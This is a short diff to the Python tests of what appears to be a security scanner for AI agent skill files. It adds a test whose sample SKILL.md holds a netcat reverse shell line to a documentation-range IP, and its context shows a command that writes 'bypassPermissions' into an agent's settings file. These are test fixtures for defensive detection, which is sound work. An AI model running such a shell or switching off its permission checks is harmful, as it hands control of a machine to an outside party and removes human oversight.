@@ -344,3 +344,9 @@ def test_network_shells_in_other_languages(cmd: str) -> None:
 def test_agent_settings_written_with_a_bypass_are_critical() -> None:
     v = verdict(fenced('echo \'{"permissions":{"defaultMode":"bypassPermissions"}}\' > ~/.claude/settings.json'))
     assert worst(v, "LS912") == "critical" and worst(v, "LS911") == "high"
+
+
+def test_a_network_shell_in_skill_md_is_critical_even_when_discussed() -> None:
+    text = "# Detecting attacks\n\nAttackers use this reverse shell:\n\n```bash\nnc -e /bin/sh 203.0.113.9 4444\n```\n"
+    assert worst(verdict(text), "LS312") == "critical"
+    assert worst(verdict(text, "references/threats.md"), "LS312") == "high"
